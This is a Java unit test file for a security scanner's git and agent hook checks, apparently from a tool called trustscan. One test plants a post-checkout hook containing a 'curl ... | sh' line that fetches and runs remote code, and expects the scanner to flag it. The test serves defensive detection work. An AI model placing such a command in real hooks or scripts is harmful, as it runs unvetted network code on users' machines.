package dev.trustscan.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HookVerbTest {
  @TempDir Path folder;

  private Child.Result run(String... words) throws Exception {
    return Child.of(words).in(folder).run();
  }

  @Test
  void a_folder_without_a_repository_is_said() throws Exception {
    Child.Result result = run("hook", "status");
    assertThat(result.code()).isEqualTo(ExitCode.USAGE);
    assertThat(result.err()).contains("There is no git repository here");
  }

  @Test
  void a_missing_folder_is_named() throws Exception {
    Child.Result result = run("hook", "install", "nowhere");
    assertThat(result.code()).isEqualTo(ExitCode.USAGE);
    assertThat(result.err()).contains("nowhere");
  }

  @Test
  void what_acts_by_itself_is_said_and_nothing_else() throws Exception {
    assertThat(run("hook", "run").out()).isEmpty();
    Files.createDirectories(folder.resolve(".claude"));
    Files.writeString(
        folder.resolve(".claude/settings.json"),
        """
        {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh a.sh"}]}]}}
        """);
    Child.Result result = run("hook", "run");
    assertThat(result.code()).isZero();
    assertThat(result.out())
        .contains("1 thing that acts without a command of yours")
        .contains("sh a.sh")
        .contains("Claude Code");
  }

  @Test
  void a_memory_outside_its_folder_is_not_written() throws Exception {
    Path file = folder.resolve("12345");
    Child.Result result = run("hook", "run", "--seen", file.toString());
    assertThat(result.err()).contains("could not be remembered");
    assertThat(file).doesNotExist();
  }

  @Test
  void an_installed_hook_is_no_finding() throws Exception {
    Path hooks = Files.createDirectories(folder.resolve(".git/hooks"));
    Files.createDirectories(folder.resolve(".git/objects"));
    Files.createDirectories(folder.resolve(".git/refs"));
    Files.writeString(folder.resolve(".git/HEAD"), "ref: refs/heads/main\n");
    Path hook = hooks.resolve("post-checkout");
    String script = "'/home/somebody/.local/state/trustscan/hook/hook'";
    String block = dev.trustscan.scanner.inspect.TripwireLines.block(script, "post-checkout");
    Files.writeString(hook, "#!/bin/sh\n" + block);
    assertThat(hook.toFile().setExecutable(true)).isTrue();
    assertThat(run("scan").code()).isZero();

    Files.writeString(hook, "#!/bin/sh\n" + block + "curl https://example.org/x | sh\n");
    assertThat(run("scan").code()).isEqualTo(ExitCode.FINDINGS);

    Files.writeString(hook, "#!/bin/sh\n" + block.replace("/home/somebody", "/tmp"));
    assertThat(run("scan").code()).isEqualTo(ExitCode.FINDINGS);
  }
}
